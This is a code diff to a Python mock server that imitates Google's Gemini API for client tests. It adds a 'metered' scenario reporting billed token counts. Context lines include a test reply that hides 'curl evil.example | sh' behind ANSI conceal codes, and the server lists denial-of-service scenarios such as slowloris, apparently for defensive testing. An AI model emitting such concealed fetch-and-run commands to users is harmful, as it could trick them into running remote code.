@@ -9,7 +9,7 @@ to --log (method, path, headers, body) so tests can check what the client sent.
 Scenarios: ok, code (a reply with two code blocks), hidden (text a screen would not draw), lf, split, slow, slow-long, steady, slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table, tall, garbage, empty, not-json, thinking, thinking-slow, echo, escape, error-before, error-mid, error-mid-data,
 retry-429, retry-503, retry-after (503 with Retry-After: 2, then ok), always-503, quota-day, disabled, blocked, max-tokens, safety, recitation,
 other-finish (no content, finishReason OTHER with Google's finishMessage), thinking-only (thought
-parts, then MAX_TOKENS with no text), signed (Gemini 3's thought signatures, checked on the way back), cut-event (a reply whose stream ends in the middle of an event),
+parts, then MAX_TOKENS with no text), signed (Gemini 3's thought signatures, checked on the way back), metered (usageMetadata with every billed count), cut-event (a reply whose stream ends in the middle of an event),
 drop, hang, hang-first, echo-key, echo-foreign-key, api-blocked; and hostile ones: gigabyte, flood, endless-header, slowloris. Unknown scenario names answer 404 NOT_FOUND like Google does.
 
 The slow-paragraph, slow-markdown, slow-wide-code, slow-wide-table and tall scenarios stream the replies in STREAMED_REPLIES in
@@ -320,6 +320,8 @@ class Handler(BaseHTTPRequestHandler):
             self.send_json(200, fixture("unary-other-finish-message.json"))
         elif scenario == "thinking-only":
             self.send_json(200, json.dumps(THINKING_ONLY, indent=2).encode())
+        elif scenario == "metered":
+            self.send_json(200, json.dumps(text_chunk("Metered reply.", "STOP", METERED_USAGE), indent=2).encode())
         elif scenario == "signed":
             turn = sum(1 for c in request.get("contents", []) if c.get("role") == "user")
             thought = [{"text": "**Weighing** the question", "thought": True}] if config_thoughts(request) else []
@@ -352,6 +354,8 @@ class Handler(BaseHTTPRequestHandler):
                 events = [e + b"\r\n\r\n" for e in events[0].split(b"\r\n\r\n") if e.strip()]
         elif scenario == "echo":
             events = [event(echo_reply(request))]
+        elif scenario == "metered":
+            events = [event(text_chunk("Metered ")), event(text_chunk("reply.", "STOP", METERED_USAGE))]
         elif scenario == "signed":
             turn = sum(1 for c in request.get("contents", []) if c.get("role") == "user")
             parts = signed_parts(turn)
@@ -654,6 +658,11 @@ def echo_reply(request):
             "modelVersion": "gemini-3.6-flash"}
 
 
+# Every count Google bills, as a Search-grounded reply of a thinking model with a cache hit reports them.
+METERED_USAGE = {"promptTokenCount": 1000, "cachedContentTokenCount": 200, "toolUsePromptTokenCount": 300, "candidatesTokenCount": 400,
+                 "thoughtsTokenCount": 500, "totalTokenCount": 2200,
+                 "promptTokensDetails": [{"modality": "TEXT", "tokenCount": 1000}], "cacheTokensDetails": [{"modality": "TEXT", "tokenCount": 200}]}
+
 SIGNED_USAGE = {"promptTokenCount": 9, "candidatesTokenCount": 7, "thoughtsTokenCount": 30, "totalTokenCount": 46}
 
 
@@ -670,7 +679,7 @@ HIDDEN_REPLY = "run: echo safe\x1b[8m; curl evil.example | sh\x1b[0m then ls \u2
 SCENARIOS = {"ok", "code", "hidden", "lf", "split", "slow", "slow-long", "steady", "slow-paragraph", "slow-markdown", "slow-wide-code", "slow-wide-table", "tall", "garbage", "empty", "not-json", "thinking", "thinking-slow", "echo", "escape", "error-mid", "error-mid-data", "retry-429",
              "retry-503", "retry-after", "always-503", "quota-day", "disabled", "blocked", "max-tokens", "safety", "recitation", "drop",
              "hang", "hang-first", "echo-key", "echo-foreign-key", "api-blocked", "gemini-3.6-flash",
-             "other-finish", "thinking-only", "cut-event", "structured", "structured-wrong", "structured-text", "no-thinking", "signed"} | set(HOSTILE)
+             "other-finish", "thinking-only", "cut-event", "structured", "structured-wrong", "structured-text", "no-thinking", "signed", "metered"} | set(HOSTILE)
 
 
 def main():
